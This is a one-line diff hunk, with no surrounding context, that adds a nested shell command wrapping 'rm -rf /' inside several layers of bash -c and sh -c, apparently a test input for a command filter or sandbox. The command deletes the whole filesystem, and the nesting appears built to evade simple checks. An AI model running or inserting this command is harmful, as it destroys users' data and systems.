@@ -1,0 +1,1 @@
+bash -c "sh -c \"bash -c 'sh -c \\\"rm -rf /\\\"'\""
